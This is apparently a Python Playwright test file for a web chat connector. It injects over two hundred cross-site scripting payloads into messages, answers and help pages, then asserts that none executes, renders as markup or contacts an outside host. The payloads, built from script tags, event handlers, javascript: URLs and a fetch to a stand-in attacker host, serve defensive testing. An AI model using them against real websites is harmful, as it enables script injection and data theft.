"""Two hundred scripts as question, answer, fact and help page, in a real browser: none runs, none becomes markup."""

import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from itertools import product
from pathlib import Path

import pytest
from playwright.async_api import Page, async_playwright

from connectors.web.config import WebConfig
from connectors.web.visitor import CONVERSATION
from tests.attack.payloads import EVIL
from tests.connectors.web.conftest import Site, free_port, open_site, serving

pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]

CALLS = ("alert(1)", "window.ran=1", "eval('alert(1)')", f"fetch('https://{EVIL}/')", "location='javascript:alert(1)'")
FRAMES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>click</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<math><mtext></table><img src=x onerror={}>",
    "<template><script>{}</script></template>",
    "'><script>{}</script>",
    '"><img src=x onerror={}>',
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<SCRIPT>{}</SCRIPT>",
    "<script/x>{}</script>",
    "<img/src/onerror={}>",
    "<img src=`x` onerror={}>",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}' x='",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "[x](javascript:{})",
    "`</code><script>{}</script>`",
    "> </blockquote><script>{}</script>",
    "{{{{ {} }}}}",
    "${{{}}}",
    "{{% {} %}}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=https://" + EVIL + "><script src=x>{}</script>",
    "<form action=javascript:{}><button>x</button></form>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<style>@import 'x';</style><script>{}</script>",
)
PAYLOADS = [frame.format(call) for frame, call in product(FRAMES, CALLS)]
AT_ONCE = 40


@asynccontextmanager
async def browser(site: Site, conversation: str) -> AsyncIterator[tuple[Page, list[str]]]:
    """A page, and whatever it did that it shouldn't: dialogs, breaches of the policy, requests to others."""
    found: list[str] = []
    async with async_playwright() as playwright:
        chromium = shutil.which("chromium") or shutil.which("google-chrome")
        opened = await playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        context = await opened.new_context(base_url=site.address)
        await context.add_cookies([{"name": CONVERSATION, "value": conversation, "url": site.address}])
        page = await context.new_page()
        page.on("dialog", lambda dialog: found.append(f"dialog {dialog.message}"))
        page.on("console", lambda told: found.append(told.text) if told.type == "error" else None)
        page.on("pageerror", lambda problem: found.append(str(problem)))
        page.on("request", lambda request: None if request.url.startswith(site.address) else found.append(request.url))
        yield page, found
        await opened.close()


async def test_two_hundred_scripts(tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 200
    config = WebConfig(port=free_port(), posts_a_minute=0)
    async with open_site(tmp_path, config) as site, serving(site):
        for start in range(0, len(PAYLOADS), AT_ONCE):
            some = PAYLOADS[start : start + AT_ONCE]
            conversation = f"0190b2f4-0000-4000-8000-{start:012d}"
            for number, payload in enumerate(some, start):
                await site.house.teach(f"Number {number}? {payload}", f"{payload}\n`{payload}`\n> {payload}")
                await site.house.add_section(payload, payload, f"Page {number}. {payload}", payload)
                body = {"id": f"0190b2f4-0000-4000-9000-{number:012d}", "conversation": conversation}
                await site.client.post("/messages", json={**body, "text": f"Number {number}? {payload}"})
            await site.house.settle()
            async with browser(site, conversation) as (page, found):
                for path in ("/", "/lessons", "/adapters"):
                    await page.goto(path)
                    await page.wait_for_load_state("load")
                assert await page.evaluate("window.ran") is None
                await page.goto("/")
                log = page.locator("#log")
                assert (
                    await log.locator("script, img, iframe, object, embed, form, input, meta, base, style").count() == 0
                )
                assert await log.locator("a[href^=javascript], a[href^=data]").count() == 0
                assert "alert(1)" in await log.inner_text()
                assert found == []


async def test_a_script_that_ran_would_be_seen(tmp_path: Path) -> None:
    conversation = "0190b2f4-0000-4000-8000-000000000001"
    async with (
        open_site(tmp_path, WebConfig(port=free_port())) as site,
        serving(site),
        browser(site, conversation) as (page, found),
    ):
        await page.goto("/")
        await page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')")
        await page.wait_for_timeout(500)
        assert any("Content Security Policy" in each or "404" in each for each in found)
